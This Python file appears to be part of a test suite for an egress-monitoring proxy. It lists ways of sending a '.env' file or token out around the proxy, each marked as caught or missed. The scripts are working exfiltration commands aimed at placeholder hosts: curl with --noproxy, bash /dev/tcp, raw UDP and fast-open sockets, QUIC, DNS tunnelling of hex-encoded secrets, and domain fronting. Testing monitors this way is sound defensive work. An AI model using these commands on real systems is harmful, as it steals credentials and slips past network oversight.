"""Clients that do not ask the proxy."""

from __future__ import annotations

from typing import Any

from evasion.claim import Claim, Family
from evasion.sends.way import Way

_BYPASS = "the connection is recorded, what it carried is not"


def _direct(id: str, title: str, script: str, **more: Any) -> Way:
    """Seen as a connection, unless `more` says otherwise."""
    told = {"claim": Claim.GAP, "captured": Claim.EXACT, "gap": "proxy-bypass", "remark": _BYPASS}
    seen = told if "claim" not in more else {}
    return Way(id=id, title=title, script=script, host="", **{**seen, **more})


def _python(code: str) -> str:
    return f"python 'import socket\nnote(); s = secret().encode()\n{code}'"


AROUND = Family(
    "Round the proxy",
    (
        _direct("noproxy", "`curl --noproxy '*'`", "noted curl -sSk --noproxy '*' -d @.env \"$URL\""),
        _direct(
            "no-variables",
            "`env -u https_proxy ... curl`",
            'env -i PATH="$PATH" PIDS="$PIDS" noted curl -sSk -d @.env "$URL"',
        ),
        _direct(
            "address", "`curl` to an address, no proxy", "noted curl -sSk --noproxy '*' -d @.env http://203.0.113.8/"
        ),
        _direct(
            "http-client",
            "Python's http.client: it knows no proxy",
            _python(
                "import http.client, ssl\n"
                'c = http.client.HTTPSConnection("collector.example", context=ssl._create_unverified_context())\n'
                'c.request("POST", f"/{ID}", s); c.getresponse()'
            ),
        ),
        _direct(
            "bash-tcp",
            "`bash`: `/dev/tcp`",
            "noted bash -c 'cat .env > /dev/tcp/203.0.113.4/9000'",
            needs=("bash",),
            below=True,
        ),
        _direct(
            "fast-open",
            "`sendto` with `MSG_FASTOPEN`: no connect at all",
            _python('c = socket.socket(); c.sendto(s, socket.MSG_FASTOPEN, ("203.0.113.4", 9000)); c.recv(9)'),
        ),
        _direct(
            "udp",
            "a datagram (`sendto`)",
            _python('c = socket.socket(type=socket.SOCK_DGRAM); c.sendto(s, ("203.0.113.53", 443))'),
            captured=None,
        ),
        _direct(
            "udp-sendmsg",
            "a datagram (`sendmsg`)",
            _python('c = socket.socket(type=socket.SOCK_DGRAM); c.sendmsg([s], [], 0, ("203.0.113.53", 443))'),
            captured=None,
        ),
        _direct(
            "udp-connected",
            "a datagram of a connected socket",
            _python('c = socket.socket(type=socket.SOCK_DGRAM); c.connect(("203.0.113.53", 443)); c.send(s)'),
            claim=Claim.MISSED,
            remark="a datagram that names no receiver in its call is not seen",
        ),
        _direct(
            "udp-sendmmsg",
            "a datagram (`sendmmsg`)",
            "datagram sendmmsg 203.0.113.53 443",
            needs=("datagram",),
            captured=None,
        ),
        _direct(
            "udp-ring",
            "a datagram through an io_uring",
            "datagram ring 203.0.113.53 443",
            needs=("io_uring",),
            claim=Claim.MISSED,
            remark="a ring is recorded, and thought harmless: only what it opens is covered",
        ),
        _direct(
            "quic",
            "QUIC",
            _python("quic(s)"),
            captured=None,
        ),
        Way(
            id="dns",
            title="a name asked of the DNS",
            script='. ./.env; noted getent hosts "$TOKEN.exfil.example"',
            needs=("getent",),
            host="exfil.example",
        ),
        Way(
            id="dns-hex",
            title="a name asked of the DNS, in hex",
            script='. ./.env; hex=$(printf %s "$TOKEN" | od -An -v -tx1 | tr -d " \\n"); '
            'noted getent hosts "$(echo "$hex" | cut -c1-60).$(echo "$hex" | cut -c61-).exfil.example"',
            arrives=lambda value: (value.hex().encode(),),
            needs=("getent",),
            host="exfil.example",
        ),
        _direct(
            "pinned",
            "a client that trusts only one authority",
            'noted curl -sS --cacert "$WORLD_CA" -d @.env "$URL"',
            gap="tls-refused",
            stopped=True,
            remark="it refuses our certificate; nothing leaves, so the session may be clean",
            captured=None,
        ),
        Way(
            id="fronting",
            title="domain fronting: one name in TLS, another in Host",
            script='noted curl -sS -H "Host: collector.example" -d @.env "https://cdn.front.example/$ID"',
            host="cdn.front.example",
            remark="named by the name that was checked",
        ),
        Way(
            id="resolve",
            title="`curl --connect-to`",
            script='noted curl -sS --connect-to ::www.collector.example:443 -d @.env "$URL"',
        ),
    ),
)
